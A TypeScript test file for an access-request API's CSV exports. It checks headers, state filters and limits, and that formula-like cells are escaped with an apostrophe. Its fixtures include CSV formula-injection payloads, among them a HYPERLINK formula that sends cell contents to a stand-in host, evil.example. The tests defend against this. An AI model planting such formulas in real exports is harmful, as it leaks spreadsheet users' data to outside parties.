import { createApiHarness, requestablePackage, type ApiHarness } from './api-harness';
import { csvRecords, parseCsv } from './csv-rows';

let api: ApiHarness;
let setup: Awaited<ReturnType<typeof requestablePackage>>;
const people: Record<string, { id: string; email: string }> = {};
const requests: Record<string, { id: string; number: number }> = {};

// Three requests by three people: one approved (and delivered), one denied, one still pending.
beforeAll(async () => {
  api = await createApiHarness();
  setup = await requestablePackage(api, { requestorScope: 'allMembers', requestors: [] });
  const justifications = {
    mallory: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    peggy: '+1+1',
    trent: '@SUM(1,2)',
  };
  for (const [name, justification] of Object.entries(justifications)) {
    people[name] = (
      await api
        .post('/users', { displayName: name, email: `${name}@woodgrove.example` })
        .expect(201)
    ).body;
    requests[name] = (
      await api
        .post('/assignmentRequests', {
          requestorId: people[name].id,
          packageId: setup.pkg.id,
          justification,
        })
        .expect(201)
    ).body;
  }
  const decide = (name: string, decision: string, reason: string) =>
    api
      .post(`/assignmentRequests/${requests[name].id}/decision`, {
        approverId: setup.approver.id,
        decision,
        reason,
      })
      .expect(200);
  await decide('mallory', 'approve', '-2+3');
  await decide('peggy', 'deny', 'Not on the project');
  await api.fulfil();
});
afterAll(() => api.close());

describe('GET /assignmentRequests?format=csv', () => {
  test('is a UTF-8 CSV download with a header row and one row per request', async () => {
    const res = await api
      .get(`/assignmentRequests?packageId=${setup.pkg.id}&format=csv`)
      .expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename=assignment-requests.csv');
    const [header] = parseCsv(res.text);
    expect(header.slice(0, 8)).toEqual([
      'number',
      'state',
      'type',
      'packageName',
      'policyName',
      'targetUserEmail',
      'requestorEmail',
      'justification',
    ]);
    const rows = csvRecords(res.text);
    expect(rows.map((r) => [r.number, r.state, r.targetUserEmail]).sort()).toEqual(
      [
        [String(requests.mallory.number), 'delivered', 'mallory@woodgrove.example'],
        [String(requests.peggy.number), 'denied', 'peggy@woodgrove.example'],
        [String(requests.trent.number), 'pendingApproval', 'trent@woodgrove.example'],
      ].sort(),
    );
    expect(new Set(rows.map((r) => r.packageName))).toEqual(new Set([setup.pkg.name]));
    expect(rows.find((r) => r.state === 'denied')?.decidedByEmail).toBe(setup.approver.email);
  });

  test('cells a spreadsheet would evaluate start with an apostrophe', async () => {
    const res = await api
      .get(`/assignmentRequests?packageId=${setup.pkg.id}&format=csv`)
      .expect(200);
    const byEmail = Object.fromEntries(csvRecords(res.text).map((r) => [r.targetUserEmail, r]));
    expect(byEmail['mallory@woodgrove.example'].justification).toBe(
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
    );
    expect(byEmail['mallory@woodgrove.example'].decisionReason).toBe(`'-2+3`);
    expect(byEmail['peggy@woodgrove.example'].justification).toBe(`'+1+1`);
    expect(byEmail['trent@woodgrove.example'].justification).toBe(`'@SUM(1,2)`);
    // The JSON listing returns what was typed: only the spreadsheet format needs the guard.
    const json = (await api.get(`/assignmentRequests/${requests.peggy.id}`).expect(200)).body;
    expect(json.justification).toBe('+1+1');
  });

  test('filters by state', async () => {
    const res = await api
      .get(`/assignmentRequests?packageId=${setup.pkg.id}&state=denied&format=csv`)
      .expect(200);
    expect(csvRecords(res.text).map((r) => r.targetUserEmail)).toEqual(['peggy@woodgrove.example']);
  });

  test('honours an explicit limit, and an empty result still has its header', async () => {
    const one = await api
      .get(`/assignmentRequests?packageId=${setup.pkg.id}&limit=1&format=csv`)
      .expect(200);
    expect(csvRecords(one.text)).toHaveLength(1);
    const none = await api
      .get(`/assignmentRequests?packageId=${setup.pkg.id}&state=canceled&format=csv`)
      .expect(200);
    expect(parseCsv(none.text)).toHaveLength(1);
    expect(parseCsv(none.text)[0][0]).toBe('number');
  });
});

describe('GET /assignments?format=csv', () => {
  test('lists assignments with user emails and the package name, filtered by state', async () => {
    const res = await api.get(`/assignments?packageId=${setup.pkg.id}&format=csv`).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename=assignments.csv');
    expect(csvRecords(res.text)).toEqual([
      expect.objectContaining({
        userEmail: 'mallory@woodgrove.example',
        userDisplayName: 'mallory',
        packageName: setup.pkg.name,
        policyName: 'Policy',
        state: 'delivered',
      }),
    ]);
    const removed = await api
      .get(`/assignments?packageId=${setup.pkg.id}&state=removed&format=csv`)
      .expect(200);
    expect(csvRecords(removed.text)).toEqual([]);
  });
});
